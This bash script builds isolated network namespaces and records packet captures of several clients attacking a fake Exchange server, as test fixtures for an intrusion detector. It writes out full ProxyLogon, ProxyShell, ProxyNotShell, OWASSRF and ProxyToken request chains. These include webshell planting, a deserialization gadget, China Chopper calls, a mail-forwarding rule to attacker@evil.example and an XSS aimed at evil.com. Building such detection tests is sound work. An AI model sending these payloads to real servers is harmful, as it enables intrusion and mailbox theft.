#!/usr/bin/env bash
# Records pcaps/real-clients/: real clients attacking (and using) a fake Exchange front end,
# so that every signature family is proven on bytes a real client wrote, not on bytes built
# from the same tables as the signatures. Run as root; re-runnable; NOT run by `make test`
# (tests/real_clients.rs replays the committed captures).
#
#   * Two network namespaces, exh-rc-c (clients) and exh-rc-s (server), joined by one veth
#     pair, MTU 1500, segmentation and checksum offload off (gso_max_segs 1, ethtool tx off:
#     the capture holds MSS-sized segments with their checksums, as a wire tap would), IPv6
#     off. Addresses exist only inside them:
#     server 198.51.100.20 (mail.contoso.com, through /etc/netns/exh-rc-c/hosts), attackers
#     203.0.113.10, benign users 192.0.2.100. Neither namespace has any other route, so no
#     packet can leave them.
#   * scripts/fake-exchange.py serves plain HTTP on :80 (and HTTPS on :443 for the TLS
#     capture) in exh-rc-s, answering as a vulnerable Exchange front end does (see its
#     docstring). tcpdump records in exh-rc-s, one file per client and family.
#   * Clients in exh-rc-c: curl, Python requests (scripts/requests-client.py), socat for raw
#     bytes curl cannot shape (pipelining, two Cookie lines, tabs, backslashes, chosen chunk
#     boundaries), openssl s_client over TLS (exhound does not inspect TLS yet: recorded with
#     its key log for later, no alert expected), and headless Chromium (a browser engine
#     running the ProxyOracle XSS and an OWA logon page).
#
# Installs what is missing: tcpdump, curl, socat, openssl, iproute2, ethtool, python3,
# chromium-headless-shell (apt-get) and requests (pip). The namespaces, the veth pair, the
# /etc/netns files and the helper processes are removed on exit, whatever happens.
# pcaps/README.md says how each file was made; tests/real_clients.rs says what exhound must
# report for each, so change them together.
set -euo pipefail

cd "$(dirname "$0")/.."
out=pcaps/real-clients
CNS=exh-rc-c
SNS=exh-rc-s
CIF=exh-rcc
SIF=exh-rcs
SERVER=198.51.100.20
ATTACKER=203.0.113.10
USER_IP=192.0.2.100
HOST=mail.contoso.com
BASE=http://$HOST

if [ "$(id -u)" -ne 0 ]; then
    echo "capture-clients: run as root (network namespaces, tcpdump)" >&2
    exit 1
fi

# --- what the clients need ---------------------------------------------------------------
need=()
command -v tcpdump >/dev/null || need+=(tcpdump)
command -v curl >/dev/null || need+=(curl)
command -v socat >/dev/null || need+=(socat)
command -v openssl >/dev/null || need+=(openssl)
command -v ip >/dev/null || need+=(iproute2)
command -v ethtool >/dev/null || need+=(ethtool)
command -v python3 >/dev/null || need+=(python3 python3-pip)
command -v chromium-headless-shell >/dev/null || need+=(chromium-headless-shell)
if [ ${#need[@]} -gt 0 ]; then
    echo "capture-clients: installing ${need[*]}"
    apt-get update -qq
    DEBIAN_FRONTEND=noninteractive apt-get install -y -qq "${need[@]}" >/dev/null
fi
if ! python3 -c 'import requests' 2>/dev/null; then
    echo "capture-clients: installing requests (pip)"
    python3 -m pip install --quiet requests || python3 -m pip install --quiet --break-system-packages requests
fi

work=$(mktemp -d)
pids=()
cleanup() {
    for pid in "${pids[@]}"; do
        kill "$pid" 2>/dev/null || true
    done
    for pid in "${pids[@]}"; do
        wait "$pid" 2>/dev/null || true
    done
    ip netns del "$CNS" 2>/dev/null || true
    ip netns del "$SNS" 2>/dev/null || true
    rm -rf "/etc/netns/$CNS" "/etc/netns/$SNS" "$work"
}
trap cleanup EXIT
trap 'exit 130' INT TERM

c() { ip netns exec "$CNS" "$@"; }

# --- the namespaces ----------------------------------------------------------------------
ip netns del "$CNS" 2>/dev/null || true
ip netns del "$SNS" 2>/dev/null || true
ip netns add "$CNS"
ip netns add "$SNS"
# `ip netns exec` bind-mounts /etc/netns/<ns>/* over /etc: the clients resolve the server's
# name from hosts, and any other lookup goes to the namespace's own loopback (nothing there).
mkdir -p "/etc/netns/$CNS"
printf '127.0.0.1 localhost\n%s %s\n' "$SERVER" "$HOST" >"/etc/netns/$CNS/hosts"
printf 'nameserver 127.0.0.1\n' >"/etc/netns/$CNS/resolv.conf"
for ns in "$CNS" "$SNS"; do
    for key in all default; do
        ip netns exec "$ns" sysctl -qw "net.ipv6.conf.$key.disable_ipv6=1"
    done
    ip -n "$ns" link set lo up
done
ip link add "$CIF" netns "$CNS" type veth peer name "$SIF" netns "$SNS"
ip -n "$CNS" link set "$CIF" mtu 1500 gso_max_segs 1 up
ip -n "$SNS" link set "$SIF" mtu 1500 gso_max_segs 1 up
# Checksums computed by the kernel, not left to a (virtual) NIC: the capture holds the
# checksums a wire would carry.
ip netns exec "$CNS" ethtool -K "$CIF" tx off >/dev/null
ip netns exec "$SNS" ethtool -K "$SIF" tx off >/dev/null
ip -n "$CNS" addr add "$ATTACKER/32" dev "$CIF"
ip -n "$CNS" addr add "$USER_IP/32" dev "$CIF"
ip -n "$SNS" addr add "$SERVER/32" dev "$SIF"
ip -n "$CNS" route add "$SERVER/32" dev "$CIF" src "$ATTACKER"
ip -n "$SNS" route add "$ATTACKER/32" dev "$SIF"
ip -n "$SNS" route add "$USER_IP/32" dev "$SIF"

# Which client address the next connections come from.
as_attacker() { ip -n "$CNS" route replace "$SERVER/32" dev "$CIF" src "$ATTACKER"; }
as_user() { ip -n "$CNS" route replace "$SERVER/32" dev "$CIF" src "$USER_IP"; }

# --- the fake Exchange -------------------------------------------------------------------
openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj "/CN=$HOST" \
    -keyout "$work/key.pem" -out "$work/cert.pem" 2>/dev/null
ip netns exec "$SNS" python3 scripts/fake-exchange.py "$SERVER" --tls-port 443 \
    --cert "$work/cert.pem" --key "$work/key.pem" 2>"$work/server.log" &
pids+=($!)
for port in 80 443; do
    for i in $(seq 50); do
        if c python3 -c "import socket; socket.create_connection(('$SERVER', $port), 0.2)" 2>/dev/null; then
            break
        fi
        [ "$i" -lt 50 ] || { echo "capture-clients: the fake Exchange does not listen on :$port" >&2; cat "$work/server.log" >&2; exit 1; }
        sleep 0.1
    done
done

# record NAME FUNCTION: tcpdump in the server namespace while FUNCTION runs the clients.
record() {
    local name=$1 fn=$2 i
    ip netns exec "$SNS" tcpdump -Z root --immediate-mode -U -s 0 -i "$SIF" \
        -w "$work/$name.pcap" "tcp and host $SERVER" 2>"$work/tcpdump.err" &
    local tpid=$!
    pids+=("$tpid")
    for i in $(seq 50); do
        grep -q "listening on" "$work/tcpdump.err" 2>/dev/null && break
        [ "$i" -lt 50 ] || { echo "capture-clients: tcpdump did not start" >&2; cat "$work/tcpdump.err" >&2; exit 1; }
        sleep 0.1
    done
    "$fn"
    sleep 1.5
    kill "$tpid" 2>/dev/null || true
    wait "$tpid" 2>/dev/null || true
    unset 'pids[-1]'
    install -m 644 "$work/$name.pcap" "$out/$name.pcap"
    echo "capture-clients: $out/$name.pcap: $(grep -o '[0-9]* packets captured' "$work/tcpdump.err"), $(stat -c %s "$out/$name.pcap") bytes"
}

CO=(-sS -o /dev/null --max-time 10)   # curl options, again after each --next
CURL=(curl "${CO[@]}")
FQDN=ex01.contoso.local
SID=S-1-5-21-2725560159-1428537199-2260736313-500
GUID=2f4e09d9-3e1c-4b9a-9bd5-2b43f7d0c7a5
CANARY=mvv8cTCO3UeLf-3nQvY9Ep1SzNGTJtkIVoXMnRtWOJwbI0KpWxwbfbgmEpHk2xP0kWyaovDMJQ0.
LEGACYDN="/o=Contoso/ou=Exchange Administrative Group (FYDIBOHF23SPDLT)/cn=Recipients/cn=5d3c9a0e8b8f4f0f9a3e1b7c6d2a4e11-Administrator"
TYPE="__type\":\"JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel"
IDENTITY="{\"__type\":\"Identity:ECP\",\"DisplayName\":\"OAB (Default Web Site)\",\"RawIdentity\":\"$GUID\"}"

# Request bodies.
cat >"$work/autodiscover.xml" <<XML
<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006"><Request><EMailAddress>administrator@contoso.com</EMailAddress><AcceptableResponseSchema>http://schemas.microsoft.com/exchange/autodiscover/outlook/responseschema/2006a</AcceptableResponseSchema></Request></Autodiscover>
XML
{ printf '%s' "$LEGACYDN"; printf '\000\000\000\000\000\237N\000\000\000\000\000\000\000\000\000\000\000\000\000\000'; } >"$work/mapi.bin"
printf '<r at="Negotiate" ln="john"><s>%s</s><s a="7" t="1">S-1-1-0</s><s a="7" t="1">S-1-5-2</s><s a="7" t="1">S-1-5-11</s><s a="7" t="1">S-1-5-15</s><s a="3221225479" t="1">S-1-5-5-0-6948923</s></r>' "$SID" >"$work/proxylogon.xml"
printf '{"filter":{"Parameters":{"%s","SelectedView":"","SelectedVDirType":"All"}},"sort":{}}' "$TYPE" >"$work/getobject.json"
printf '{"identity":%s,"properties":{"Parameters":{"%s","ExternalUrl":"http://ffff/#<script language=\\"JScript\\" runat=\\"server\\"> function Page_Load(){/**/eval(Request[\\"exec_code\\"],\\"unsafe\\");}</script>"}}}' "$IDENTITY" "$TYPE" >"$work/setobject.json"
printf '{"identity":%s,"properties":{"Parameters":{"%s","FilePathName":"\\\\\\\\127.0.0.1\\\\c$\\\\Program Files\\\\Microsoft\\\\Exchange Server\\\\V15\\\\FrontEnd\\\\HttpProxy\\\\owa\\\\auth\\\\qwzxa.aspx"}}}' "$IDENTITY" "$TYPE" >"$work/reset.json"
cat >"$work/ews-finditem.xml" <<'XML'
<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/" xmlns:t="http://schemas.microsoft.com/exchange/services/2006/types" xmlns:m="http://schemas.microsoft.com/exchange/services/2006/messages"><soap:Header><t:RequestServerVersion Version="Exchange2016" /></soap:Header><soap:Body><m:FindItem Traversal="Shallow"><m:ItemShape><t:BaseShape>AllProperties</t:BaseShape></m:ItemShape><m:ParentFolderIds><t:DistinguishedFolderId Id="inbox"><t:Mailbox><t:EmailAddress>administrator@contoso.com</t:EmailAddress></t:Mailbox></t:DistinguishedFolderId></m:ParentFolderIds></m:FindItem></soap:Body></soap:Envelope>
XML
# WSMan: create a shell, then a command whose base64 PSRP arguments carry the
# CVE-2022-41082 gadget (TargetTypeForDeserialization, sec. 4.2).
wsman_create() {
    printf '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:wsa="http://schemas.xmlsoap.org/ws/2004/08/addressing" xmlns:wsman="http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd" xmlns:rsp="http://schemas.microsoft.com/wbem/wsman/1/windows/shell"><s:Header><wsa:To>%s</wsa:To><wsman:ResourceURI s:mustUnderstand="true">http://schemas.microsoft.com/powershell/Microsoft.Exchange</wsman:ResourceURI><wsa:Action s:mustUnderstand="true">http://schemas.xmlsoap.org/ws/2004/09/transfer/Create</wsa:Action></s:Header><s:Body><rsp:Shell ShellId="1E3B2C4D-5A6F-4B7C-8D9E-0F1A2B3C4D5E"><rsp:InputStreams>stdin pr</rsp:InputStreams><rsp:OutputStreams>stdout</rsp:OutputStreams><creationXml xmlns="http://schemas.microsoft.com/powershell">AAAAAAAAAAEAAAAAAAAAAAMAAADKAgAAAAIAAQA=</creationXml></rsp:Shell></s:Body></s:Envelope>' "$1"
}
gadget=$(printf '<Obj RefId="0"><MS><S N="N">-Identity:</S><Obj N="V" RefId="1"><TN RefId="0"><T>System.ServiceProcess.ServiceController</T></TN><ToString>x</ToString><Props><S N="Name">Type</S><Obj N="TargetTypeForDeserialization"><TN RefId="1"><T>System.Exception</T></TN><MS><BA N="SerializationData">AAEAAAD/////AQAAAAAAAAAEAQAAAB9TeXN0ZW0uVW5pdHlTZXJpYWxpemF0aW9uSG9sZGVy</BA></MS></Obj></Props></Obj></MS></Obj>' | base64 -w0)
wsman_command() {
    printf '<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope" xmlns:wsa="http://schemas.xmlsoap.org/ws/2004/08/addressing" xmlns:wsman="http://schemas.dmtf.org/wbem/wsman/1/wsman.xsd" xmlns:rsp="http://schemas.microsoft.com/wbem/wsman/1/windows/shell"><s:Header><wsa:To>%s</wsa:To><wsman:ResourceURI s:mustUnderstand="true">http://schemas.microsoft.com/powershell/Microsoft.Exchange</wsman:ResourceURI><wsa:Action s:mustUnderstand="true">http://schemas.microsoft.com/wbem/wsman/1/windows/shell/Command</wsa:Action><wsman:SelectorSet><wsman:Selector Name="ShellId">1E3B2C4D-5A6F-4B7C-8D9E-0F1A2B3C4D5E</wsman:Selector></wsman:SelectorSet></s:Header><s:Body><rsp:CommandLine CommandId="931F2C64-085E-4D4B-A19B-3C7012EE5501"><rsp:Command>New-OfflineAddressBook</rsp:Command><rsp:Arguments>%s</rsp:Arguments></rsp:CommandLine></s:Body></s:Envelope>' "$1" "$gadget"
}
RPS_CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBlhZG1pbmlzdHJhdG9yQGNvbnRvc28uY29tVS1TLTEtNS0yMS0yNzI1NTYwMTU5LTE0Mjg1MzcxOTktMjI2MDczNjMxMy01MDBHAQAAAAcAAAAMUy0xLTUtMzItNTQ0RQAAAAA%3D

# --- curl --------------------------------------------------------------------------------
curl_proxylogon() {
    # The ProxyLogon chain (sec. 2.2-2.9) on one keep-alive connection (--next), each stage
    # in a different public PoC's cookie form; then the nmap scanner and EWS mail theft.
    as_attacker
    c "${CURL[@]}" -b 'X-BEResource=localhost~1942062522' "$BASE/ecp/y.js" \
        --next "${CO[@]}" -b "X-BEResource=a]@$FQDN:444/autodiscover/autodiscover.xml?#~1941962753" \
            -H 'Content-Type: text/xml' --data-binary @"$work/autodiscover.xml" "$BASE/ecp/y.js" \
        --next "${CO[@]}" -b "X-BEResource=[:[@$FQDN:444/mapi/emsmdb/?mailboxId=$GUID@contoso.com#~1941962753" \
            -H 'Content-Type: application/mapi-http' -H 'X-RequestType: Connect' \
            -H 'X-ClientApplication: MapiHttpClient/15.2.464.5' \
            -H 'X-RequestId: 12345678-1234-1234-1234-1234567890ab' \
            --data-binary @"$work/mapi.bin" "$BASE/ecp/favicon.ico" \
        --next "${CO[@]}" -b "X-BEResource=Admin@$FQDN:444/ecp/proxyLogon.ecp?a=~1942062522;" \
            -H 'Content-Type: text/xml' -H 'msExchLogonMailbox: S-1-5-20' \
            --data-binary @"$work/proxylogon.xml" "$BASE/ecp/y.js" \
        --next "${CO[@]}" -b "X-BEResource=Admin@$FQDN:444/ecp/DDI/DDIService.svc/GetObject?schema=OABVirtualDirectory&msExchEcpCanary=$CANARY&a=~1942062522; ASP.NET_SessionId=a7b5d4f8-52a1-4c4e-9e5b-6d2f1f0c3a11; msExchEcpCanary=$CANARY" \
            -H 'Content-Type: application/json; charset=utf-8' -H 'msExchLogonMailbox: S-1-5-20' \
            --data-binary @"$work/getobject.json" "$BASE/ecp/y.js" \
        --next "${CO[@]}" -b "X-BEResource=Admin@$FQDN:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=$CANARY&a=~1942062522; ASP.NET_SessionId=a7b5d4f8-52a1-4c4e-9e5b-6d2f1f0c3a11; msExchEcpCanary=$CANARY" \
            -H 'Content-Type: application/json; charset=utf-8' -H 'msExchLogonMailbox: S-1-5-20' \
            --data-binary @"$work/setobject.json" "$BASE/ecp/y.js" \
        --next "${CO[@]}" -b "X-BEResource=Admin@$FQDN:444/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory&msExchEcpCanary=$CANARY&a=~1942062522; ASP.NET_SessionId=a7b5d4f8-52a1-4c4e-9e5b-6d2f1f0c3a11; msExchEcpCanary=$CANARY" \
            -H 'Content-Type: application/json; charset=utf-8' -H 'msExchLogonMailbox: S-1-5-20' \
            --data-binary @"$work/reset.json" "$BASE/ecp/y.js"
    c "${CURL[@]}" --data-urlencode 'exec_code=Response.Write(new ActiveXObject("WScript.Shell").exec("cmd /c whoami").stdout.readall())' \
        "$BASE/owa/auth/qwzxa.aspx"
    c "${CURL[@]}" -b 'X-AnonResource=true; X-AnonResource-Backend=localhost/ecp/default.flt?~3; X-BEResource=localhost/owa/auth/logon.aspx?~3;' \
        "$BASE/owa/auth/x.js"
    c "${CURL[@]}" -b 'X-BEResource=localhost/EWS/Exchange.asmx?a=~1942062522' -H 'Content-Type: text/xml' \
        --data-binary @"$work/ews-finditem.xml" "$BASE/ecp/poc.js"
}

curl_proxyshell() {
    # ProxyShell (sec. 3): Orange's NSPI check (Email in the query), the cookie form to NSPI,
    # EWS and the PowerShell back end with a forged X-Rps-CAT, and nuclei's OWA probe.
    as_attacker
    c "${CURL[@]}" "$BASE/autodiscover/autodiscover.json?@foo.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@foo.com"
    c "${CURL[@]}" -b 'Email=Autodiscover/autodiscover.json?a=qxbzc@vjkmw.kzp' \
        "$BASE/Autodiscover/autodiscover.json?a=qxbzc@vjkmw.kzp/mapi/nspi/"
    c "${CURL[@]}" -H 'Content-Type: text/xml' --data-binary @"$work/ews-finditem.xml" \
        "$BASE/autodiscover/autodiscover.json?@evil.corp/EWS/exchange.asmx?&Email=autodiscover/autodiscover.json%3F@evil.corp"
    wsman_create http://127.0.0.1:80/powershell >"$work/create.xml"
    c "${CURL[@]}" -b 'Email=autodiscover/autodiscover.json?a=qxbzc@vjkmw.kzp' \
        -H 'Content-Type: application/soap+xml;charset=UTF-8' --data-binary @"$work/create.xml" \
        "$BASE/autodiscover/autodiscover.json?a=qxbzc@vjkmw.kzp/powershell/?X-Rps-CAT=$RPS_CAT"
    c "${CURL[@]}" "$BASE/autodiscover/autodiscover.json?@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com"
}

curl_proxynotshell() {
    # ProxyNotShell (sec. 4.1): the ZDI form with Basic credentials of a mailbox user, then
    # testanull's form with a real NTLM handshake (curl --ntlm): create a shell and send the
    # CVE-2022-41082 gadget.
    as_attacker
    c "${CURL[@]}" -u 'john@contoso.com:Summer2022!' \
        "$BASE/autodiscover/autodiscover.json?@zdi/PowerShell?serializationLevel=Full;ExchClientVer=15.2.922.7;clientApplication=ManagementShell;TargetServer=;PSVersion=5.1.17763.592&Email=autodiscover/autodiscover.json%3F@zdi"
    wsman_create http://ex01.contoso.local/powershell >"$work/create.xml"
    wsman_command http://ex01.contoso.local/powershell >"$work/command.xml"
    c "${CURL[@]}" --ntlm -u 'contoso\john:Summer2022!' -b 'Email=autodiscover/admin@localhost' \
        -H 'Content-Type: application/soap+xml;charset=UTF-8' --data-binary @"$work/create.xml" \
        "$BASE/autodiscover/admin@localhost//powershell/autodiscover.json?x=a" \
        --next "${CO[@]}" --ntlm -u 'contoso\john:Summer2022!' -b 'Email=autodiscover/admin@localhost' \
        -H 'Content-Type: application/soap+xml;charset=UTF-8' --data-binary @"$work/command.xml" \
        "$BASE/autodiscover/admin@localhost//powershell/autodiscover.json?x=a"
}

curl_owassrf() {
    # OWASSRF (sec. 4.1, CrowdStrike): an OWA session reaching the back-end PowerShell through
    # /owa/<mailbox>/powershell; create a shell, then the gadget.
    as_attacker
    wsman_create http://ex01.contoso.local/powershell >"$work/create.xml"
    wsman_command http://ex01.contoso.local/powershell >"$work/command.xml"
    c "${CURL[@]}" -b 'cadata=ZLs1oM2P0Vv3cQ4Fh8Jx; X-OWA-CANARY=Zm9vYmFyYmF6cXV4' \
        -H 'X-OWA-ExplicitLogonUser: owa/mastermailbox@outlook.com' \
        -H 'Content-Type: application/soap+xml;charset=UTF-8' --data-binary @"$work/create.xml" \
        "$BASE/owa/mastermailbox%40outlook.com/powershell" \
        --next "${CO[@]}" -b 'cadata=ZLs1oM2P0Vv3cQ4Fh8Jx; X-OWA-CANARY=Zm9vYmFyYmF6cXV4' \
        -H 'X-OWA-ExplicitLogonUser: owa/mastermailbox@outlook.com' \
        -H 'Content-Type: application/soap+xml;charset=UTF-8' --data-binary @"$work/command.xml" \
        "$BASE/owa/mastermailbox%40outlook.com/powershell"
}

curl_proxytoken() {
    # ProxyToken (sec. 5, ZDI): SecurityToken=x gets a canary, then a forwarding rule.
    as_attacker
    c "${CURL[@]}" -b 'SecurityToken=x' \
        "$BASE/ecp/attacker@contoso.com/PersonalSettings/HomePage.aspx?showhelp=false" \
        --next "${CO[@]}" -b 'SecurityToken=x' -H 'Content-Type: application/json; charset=utf-8' \
        --data-binary '{"properties":{"RedirectTo":[{"RawIdentity":"attacker@evil.example","DisplayName":"attacker@evil.example","Address":"attacker@evil.example","AddressOrigin":0,"galContactGuid":null,"RecipientFlag":0,"RoutingType":"SMTP","SMTPAddress":"attacker@evil.example"}],"Name":"Testrule","StopProcessingRules":true}}' \
        "$BASE/ecp/victim@contoso.com/RulesEditor/InboxRules.svc/Newobject?msExchEcpCanary=$CANARY"
}

curl_webshell() {
    # China Chopper (sec. 7.1) form-encoded by curl, and AntSword (sec. 7.2): user agent and
    # cmd= first.
    as_attacker
    local code
    code=$(printf 'Response.Write(System.Environment.MachineName);' | base64 -w0)
    local wrapper="Response.Write(\"->|\");var err:Exception;try{eval(System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String(\"$code\")),\"unsafe\");}catch(err){Response.Write(\"ERROR:// \"+err.message);}Response.Write(\"|<-\");Response.End();"
    c "${CURL[@]}" --data-urlencode "pass=$wrapper" --data-urlencode "z1=$(printf 'C:\\inetpub\\' | base64 -w0)" \
        "$BASE/aspnet_client/system_web/shell.aspx"
    c "${CURL[@]}" -A 'antSword/v2.1' --data-urlencode "cmd=$wrapper" "$BASE/aspnet_client/discover.aspx"
}

curl_benign() {
    # An OWA user and Outlook/EWS/ActiveSync clients from 192.0.2.100.
    as_user
    c "${CURL[@]}" -L -c "$work/jar" "$BASE/owa/"
    c "${CURL[@]}" -L -b "$work/jar" -c "$work/jar" \
        --data 'destination=http%3A%2F%2Fmail.contoso.com%2Fowa%2F&flags=4&forcedownlevel=0&username=contoso%5Cjohn&password=Summer2021%21&passwordText=&isUtf8=1' \
        "$BASE/owa/auth.owa"
    c "${CURL[@]}" -b "$work/jar" "$BASE/owa/auth/15.1.2176/themes/resources/favicon.ico"
    c "${CURL[@]}" --ntlm -u 'contoso\john:Summer2021!' -H 'Content-Type: text/xml; charset=utf-8' \
        --data-binary @"$work/ews-finditem.xml" "$BASE/EWS/Exchange.asmx"
    c "${CURL[@]}" -X OPTIONS -u 'john@contoso.com:Summer2021!' -A 'Apple-iPhone13C2/1905.258' \
        "$BASE/Microsoft-Server-ActiveSync?Cmd=Options&User=john&DeviceId=ABCDEF0123456789&DeviceType=iPhone"
    c "${CURL[@]}" "$BASE/autodiscover/autodiscover.json?Email=john%40contoso.com&Protocol=ActiveSync&RedirectCount=1"
    c "${CURL[@]}" -u 'john@contoso.com:Summer2021!' -H 'Content-Type: text/xml' \
        --data-binary @"$work/autodiscover.xml" "$BASE/autodiscover/autodiscover.xml"
    as_attacker
}

# --- Python requests ---------------------------------------------------------------------
requests_family() { c python3 scripts/requests-client.py "$1"; }
requests_proxylogon() { as_attacker; requests_family proxylogon; }
requests_proxyshell() { as_attacker; requests_family proxyshell; }
requests_proxynotshell() { as_attacker; requests_family proxynotshell; }
requests_owassrf() { as_attacker; requests_family owassrf; }
requests_proxytoken() { as_attacker; requests_family proxytoken; }
requests_webshell() { as_attacker; requests_family webshell; }
requests_benign() { as_user; requests_family benign; as_attacker; }

# --- socat: bytes as written ---------------------------------------------------------------
raw_send() { c socat -t 3 - "TCP:$SERVER:80" <"$1" >/dev/null; }

socat_proxylogon_evasions() {
    # ProxyLogon requests pipelined on one connection, in the shapes of sec. 10.1: a
    # backslashed carrier with the cookie name in lower case after a tab; a %-encoded carrier
    # (also %uXXXX) with the session cookies on one Cookie line and the SSRF cookie on a
    # second; SetObject with a chunked body whose chunks split "<script" and "runat".
    as_attacker
    local set body
    set='{"identity":'"$IDENTITY"',"properties":{"Parameters":{"'"$TYPE"'","ExternalUrl":"http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"klk123456\"],\"unsafe\");}</script>"}}}'
    local cut1=${set%%<script*} rest
    rest=${set#"$cut1"}
    {
        printf 'GET \\ecp\\y.js HTTP/1.1\r\nHost: %s\r\nUser-Agent: socat\r\nCookie:\tx-beresource=localhost~1942062522\r\n\r\n' "$HOST"
        printf 'POST /%%65cp/%%u0079%%2Ejs HTTP/1.1\r\nHost: %s\r\nUser-Agent: socat\r\nCookie: ASP.NET_SessionId=0f1e2d3c\r\nCookie: X-BEResource=a]@%s:444/mapi/emsmdb/?#~1941962753\r\nContent-Type: application/mapi-http\r\nX-RequestType: Connect\r\nContent-Length: %d\r\n\r\n' \
            "$HOST" "$FQDN" "$(stat -c %s "$work/mapi.bin")"
        cat "$work/mapi.bin"
        printf 'POST /ecp/y.js HTTP/1.1\r\nHost: %s\r\nUser-Agent: socat\r\nCookie: X-BEResource=a]@%s:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=%s#~1941962753\r\nmsExchLogonMailbox: S-1-5-20\r\nContent-Type: application/json; charset=utf-8\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n' \
            "$HOST" "$FQDN" "$CANARY"
        # chunks: up to "<scr", "ipt language=\"JScript\" run", the rest.
        printf '%x\r\n%s<scr\r\n' $((${#cut1} + 4)) "$cut1"
        body=${rest#<scr}
        local mid=${body%%at=*}
        printf '%x\r\n%s\r\n' $((${#mid} + 2)) "${mid}at"
        body=${body#"${mid}at"}
        printf '%x\r\n%s\r\n0\r\n\r\n' ${#body} "$body"
    } >"$work/evasions.bin"
    raw_send "$work/evasions.bin"
}

socat_proxyshell_encoded() {
    # ProxyShell and ProxyNotShell %-encoded as in sec. 10.2 item 17 (the EOMTv2 bypasses):
    # autodiscover%2Ejson, %40 for @, %6dapi, %50ower%73hell, %45mail; lower-case header names.
    as_attacker
    printf 'GET /autodiscover/autodiscover%%2Ejson?%%40evil.corp/%%6dapi/nspi/?&%%45mail=autodiscover%%2Fautodiscover.json%%3F%%40evil.corp HTTP/1.1\r\nhost: %s\r\nuser-agent: socat\r\n\r\nGET /autodiscover/autodiscover.json?%%40evil.corp/%%50ower%%73hell?serializationLevel=Full&Email=autodiscover/autodiscover.json%%3F%%40evil.corp HTTP/1.1\r\nhost: %s\r\nuser-agent: socat\r\nauthorization: Basic am9obkBjb250b3NvLmNvbTpTdW1tZXIyMDIyIQ==\r\nconnection: close\r\n\r\n' \
        "$HOST" "$HOST" >"$work/encoded.bin"
    raw_send "$work/encoded.bin"
}

# --- openssl s_client: TLS ---------------------------------------------------------------
openssl_proxylogon_tls() {
    # The ProxyLogon probe over TLS to :443, as every real attack is sent. exhound does not
    # decrypt TLS (yet): no alert is expected. The session keys are kept beside the capture
    # (NSS key log) for when it does.
    as_attacker
    printf 'GET /ecp/y.js HTTP/1.1\r\nHost: %s\r\nUser-Agent: openssl-s_client\r\nCookie: X-BEResource=localhost~1942062522\r\nConnection: close\r\n\r\n' "$HOST" |
        c openssl s_client -quiet -connect "$SERVER:443" -servername "$HOST" \
            -keylogfile "$work/openssl-proxylogon-tls.keylog" >/dev/null 2>&1 || true
    install -m 644 "$work/openssl-proxylogon-tls.keylog" "$out/"
}

# --- headless Chromium -------------------------------------------------------------------
CHROME=(chromium-headless-shell --no-sandbox --disable-gpu --no-first-run --disable-background-networking
        --disable-component-update --disable-sync --disable-default-apps --disable-extensions
        --no-proxy-server --virtual-time-budget=3000 --dump-dom)
chromium_proxyoracle() {
    # ProxyOracle (sec. 6): the browser opens the frowny.aspx link whose refurl breaks out
    # of the page's script; the injected script plants the X-AnonResource cookies and fetches
    # /owa/auth/any.skin, which the front end "proxies" to the attacker's host.
    as_user
    local js='}}};document.cookie="X-AnonResource=true";document.cookie="X-AnonResource-Backend=@evil.com:443/path/any.php%23~1941962753";fetch("/owa/auth/any.skin");//'
    c "${CHROME[@]}" "$BASE/owa/auth/frowny.aspx?app=people&et=ServerError&esrc=MasterPage&te=%5C&refurl=$(python3 -c 'import sys,urllib.parse;print(urllib.parse.quote(sys.argv[1],safe=""))' "$js")" \
        >/dev/null 2>"$work/chromium.err" || { cat "$work/chromium.err" >&2; return 1; }
    as_attacker
}
chromium_benign() {
    # A browser opening OWA: redirect to the logon page.
    as_user
    c "${CHROME[@]}" "$BASE/owa/" >/dev/null 2>"$work/chromium.err" || { cat "$work/chromium.err" >&2; return 1; }
    as_attacker
}

mkdir -p "$out"
record curl-proxylogon curl_proxylogon
record curl-proxyshell curl_proxyshell
record curl-proxynotshell curl_proxynotshell
record curl-owassrf curl_owassrf
record curl-proxytoken curl_proxytoken
record curl-webshell curl_webshell
record curl-benign curl_benign
record requests-proxylogon requests_proxylogon
record requests-proxyshell requests_proxyshell
record requests-proxynotshell requests_proxynotshell
record requests-owassrf requests_owassrf
record requests-proxytoken requests_proxytoken
record requests-webshell requests_webshell
record requests-benign requests_benign
record socat-proxylogon-evasions socat_proxylogon_evasions
record socat-proxyshell-encoded socat_proxyshell_encoded
record openssl-proxylogon-tls openssl_proxylogon_tls
record chromium-proxyoracle chromium_proxyoracle
record chromium-benign chromium_benign

echo "capture-clients: versions: $(curl --version | head -1 | cut -d' ' -f1-2), python-requests $(python3 -c 'import requests; print(requests.__version__)'), socat $(socat -V | grep -m1 "socat version" | cut -d" " -f3), $(openssl version | cut -d' ' -f1-2), $(chromium-headless-shell --version 2>/dev/null | head -1)"
echo "capture-clients: server log:"
cat "$work/server.log"
